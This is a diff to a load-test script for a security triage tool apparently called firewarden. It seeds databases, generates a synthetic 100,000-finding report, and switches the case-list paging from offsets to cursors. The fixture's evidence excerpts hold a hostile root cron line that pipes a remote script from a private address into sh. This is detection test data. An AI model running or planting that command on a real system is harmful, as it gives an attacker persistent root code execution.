@@ -38,7 +38,8 @@ pgport=$((20000 + RANDOM % 30000))
 pg_stop=("${as[@]}" "$pgbin/pg_ctl" -D "$work/pg/data" -m fast -w stop)
 pgurl="postgres://postgres@127.0.0.1:$pgport/postgres"
 
-# The 100,000-finding triage result (the real report shape, findings varied).
+# The 100,000-finding triage result (the real report shape, findings varied; they name 1,000
+# attacker addresses, as a large compromise does, not one each).
 python3 - "$work/big.json" <<'PY'
 import json, sys
 findings = []
@@ -50,7 +51,7 @@ for i in range(100_000):
         "explanation": "The job fetches a script from the network and runs it as root every 5 minutes.",
         "recommendation": "Remove the line (firewarden eradicate), then look for what the script left.",
         "evidence": [{"path": f"/etc/cron.d/job{i}", "line": 1,
-                      "excerpt": f"*/5 * * * * root curl -fsSL http://10.{i>>16&255}.{i>>8&255}.{i&255}/x | sh",
+                      "excerpt": f"*/5 * * * * root curl -fsSL http://10.0.{i % 1000 >> 8}.{i % 256}/x | sh",
                       "owner": "0(root)", "mode": "0644", "mtime": "2026-11-20T03:10:00Z"}],
     })
 report = {"schema_version": 1, "tool": "firewarden 0.1.0",
@@ -114,19 +115,22 @@ request = function()
 end
 LUA
 cat > "$work/list.lua" <<'LUA'
--- List pages: 50 cases at a time, a random page of what the caller sees.
-local token, pages = os.getenv("TOKEN"), tonumber(os.getenv("PAGES"))
+-- List pages: 50 cases at a time from a random point of what the caller sees, as the
+-- console's "next page" asks for them (the cursor of the page before).
+local cursors = {}
+for line in io.lines(os.getenv("CURSORS")) do cursors[#cursors + 1] = line end
+local token = os.getenv("TOKEN")
 math.randomseed(os.time() + tonumber(tostring({}):sub(8), 16))
 request = function()
-  local path = "/api/v1/cases?limit=50&offset=" .. (math.random(pages) - 1) * 50
-  return wrk.format("GET", path, { ["Authorization"] = "Bearer " .. token })
+  local c = cursors[math.random(#cursors)]:gsub("|", "%%7C"):gsub(":", "%%3A")
+  return wrk.format("GET", "/api/v1/cases?limit=50&before=" .. c, { ["Authorization"] = "Bearer " .. token })
 end
 LUA
 
-# load NAME SCRIPT TOKEN PAGES: wrk, 32 connections on 2 threads; prints p50 p99 req/s errors.
+# load NAME SCRIPT TOKEN CURSORS: wrk, 32 connections on 2 threads; prints p50 p99 req/s errors.
 load() {
-  local script=$2 token=$3 pages=$4
-  CASES="$work/cases.txt" TOKEN=$token PAGES=$pages wrk -t2 -c32 -d"$duration" --latency -s "$script" "$FIREWARDEN_SERVER" >"$work/wrk.txt" 2>&1
+  local script=$2 token=$3 cursors=$4
+  CASES="$work/cases.txt" TOKEN=$token CURSORS=$cursors wrk -t2 -c32 -d"$duration" --latency -s "$script" "$FIREWARDEN_SERVER" >"$work/wrk.txt" 2>&1
   local p50 p99 rps non2xx
   p50=$(awk '$1 == "50%" {print $2}' "$work/wrk.txt")
   p99=$(awk '$1 == "99%" {print $2}' "$work/wrk.txt")
@@ -156,13 +160,17 @@ for backend in sqlite postgres; do
   echo "$backend: seeded 10,000 cases / 1,000,000 findings in ${seeded} s" >&2
   if [ "$backend" = postgres ]; then
     psql -qtA "$pgurl" -c "SELECT id FROM cases WHERE id LIKE 'Cb%'" >"$work/cases.txt"
+    psql -qtA "$pgurl" -c "SELECT created || '|' || id FROM cases WHERE id LIKE 'Cb%'" >"$work/all.txt"
+    psql -qtA "$pgurl" -c "SELECT created || '|' || id FROM cases WHERE tenant_id = '$first_tenant'" >"$work/one.txt"
     psql -q "$pgurl" -c "ANALYZE" >/dev/null
   else
     sqlite3 "$dir/cases.db" "SELECT id FROM cases WHERE id LIKE 'Cb%'; ANALYZE;" >"$work/cases.txt"
+    sqlite3 "$dir/cases.db" "SELECT created || '|' || id FROM cases WHERE id LIKE 'Cb%'" >"$work/all.txt"
+    sqlite3 "$dir/cases.db" "SELECT created || '|' || id FROM cases WHERE tenant_id = '$first_tenant'" >"$work/one.txt"
   fi
-  rows+=("$(load "case page (case, findings, stage, timeline, assets, imports, notes, tasks), lead of every tenant" "$work/page.lua" "$FIREWARDEN_TOKEN" 1)")
-  rows+=("$(load "case list, 50 a page, every tenant (200 pages)" "$work/list.lua" "$FIREWARDEN_TOKEN" 200)")
-  rows+=("$(load "case list, 50 a page, a customer's viewer (10 pages of 500 cases)" "$work/list.lua" "$viewer" 10)")
+  rows+=("$(load "case page (case, findings, stage, timeline, assets, imports, notes, tasks), admin" "$work/page.lua" "$FIREWARDEN_TOKEN" -)")
+  rows+=("$(load "case list, 50 a page from anywhere in 10,000, admin" "$work/list.lua" "$FIREWARDEN_TOKEN" "$work/all.txt")")
+  rows+=("$(load "case list, 50 a page from anywhere in a tenant's 500, the customer's viewer" "$work/list.lua" "$viewer" "$work/one.txt")")
   # The 100,000-finding import, end to end through the client (upload, parse, one transaction).
   case_id=$("$fw" case new --tenant "$first_tenant" --title "big import" --kind intrusion --severity high --format json | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
   t0=$(date +%s.%N)
